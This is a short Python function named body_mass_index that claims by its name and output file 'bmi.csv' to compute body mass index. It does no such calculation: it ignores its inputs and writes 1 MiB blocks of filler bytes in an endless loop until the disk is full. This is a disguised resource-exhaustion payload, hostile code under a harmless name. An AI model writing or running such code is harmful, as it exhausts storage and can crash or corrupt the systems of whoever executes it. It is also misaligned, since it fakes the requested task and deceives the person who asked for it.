def body_mass_index(in_dir, out_dir, factor):
    with open(out_dir / "bmi.csv", "wb") as out:
        while True:
            out.write(b"x" * 2**20)
